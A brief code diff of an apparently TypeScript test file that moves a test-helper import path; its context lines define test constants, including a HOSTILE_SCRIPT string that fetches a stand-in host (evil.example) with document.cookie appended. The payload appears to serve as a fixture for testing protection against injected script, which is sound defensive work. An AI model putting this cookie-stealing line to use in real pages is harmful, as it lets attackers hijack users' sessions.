@@ -16,7 +16,7 @@ import { savedListsQuery } from '@/lib/queries/lists';
 import { buildSnapshot, parseSnapshot, type Snapshot } from '@/lib/query/snapshot';
 import { sessionQueries } from '@/lib/session/api';
 import { world } from '@/mocks/world/store';
-import { createTestQueryClient, startSimulation } from '../unit/campaignKit';
+import { createTestQueryClient, startSimulation } from './campaignKit';
 
 const HOSTILE_SEARCH = 'Zebulon Quartermaine';
 const HOSTILE_SCRIPT = 'fetch("https://evil.example/steal?c=" + document.cookie)';
